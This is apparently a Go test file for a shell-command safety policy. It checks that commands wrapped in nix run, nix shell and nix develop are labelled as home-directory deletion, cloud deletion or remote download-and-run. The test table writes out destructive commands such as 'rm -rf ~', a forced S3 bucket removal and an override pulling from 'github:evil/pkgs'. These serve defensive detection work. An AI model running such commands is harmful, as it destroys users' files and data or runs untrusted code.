package patterns

import "testing"

// nixRunCases: nix run peeled as a runner (issue 7 §2): the flake's
// program is judged as itself; remote flakes ask as download-run as before.
var nixRunCases = []doesCase{
	{"nix run nixpkgs#bash -- -c 'rm -rf ~'", "cmd.delete-home"},
	{"nix run nixpkgs#bash -c 'rm -rf ~'", "cmd.delete-home"},
	{"nix run 'nixpkgs#bash' -- -c 'rm -rf ~'", "cmd.delete-home"},
	{"nix run --impure nixpkgs/nixos-24.05#bash -- -c 'rm -rf ~'", "cmd.delete-home"},
	{"nix --extra-experimental-features 'nix-command flakes' run nixpkgs#bash -- -c 'rm -rf ~'", "cmd.delete-home"},
	{"nix run nixpkgs#sudo -- rm -rf ~", "cmd.delete-home"},
	{"nix run nixpkgs#awscli2 -- s3 rb s3://b --force", "cmd.cloud-delete"},
	{"nix run nixpkgs#legacyPackages.x86_64-linux.bash -- -c 'rm -rf ~'", "cmd.delete-home"},
	{"nix run nixpkgs#bash^out -- -c 'rm -rf ~'", "cmd.delete-home"},
	{"nix run .#bash -- -c 'rm -rf ~'", "cmd.delete-home"},
	{"nix run github:o/r", "cmd.download-run"},
	{"nix run github:o/r#bash -- -c 'echo hi'", "cmd.download-run"},
	{"nix run --override-input nixpkgs github:evil/pkgs nixpkgs#hello", "cmd.download-run"}, // an input fetched from a repository (b7b)
	{"nix shell nixpkgs#bash -c bash -c 'rm -rf ~'", "cmd.delete-home"},
	{"nix shell nixpkgs#bash --command bash -c 'rm -rf ~'", "cmd.delete-home"},
	{"nix develop -c bash -c 'rm -rf ~'", "cmd.delete-home"},
	{"nix-shell -p bash --run 'rm -rf ~'", "cmd.delete-home"},
	{"nix run nixpkgs#hello", ""},
	{"nix run nixpkgs#cowsay -- hello", ""},
	{"nix run .#test", ""},
	{"nix run . -- --help", ""},
	{"nix run nixpkgs#bash -- -c 'echo hi'", ""},
	{"nix build", ""},
	{"nix build .#default", ""},
	{"nix flake check", ""},
	{"nix develop -c go test ./...", ""},
	{"nix shell nixpkgs#jq -c jq . data.json", ""},
}

func TestNixRunPeeled(t *testing.T) {
	pol, err := NewPolicy(nil)
	if err != nil {
		t.Fatal(err)
	}
	checkDoesCases(t, pol, effectsCtx("/home/op/proj"), "", nixRunCases)
}
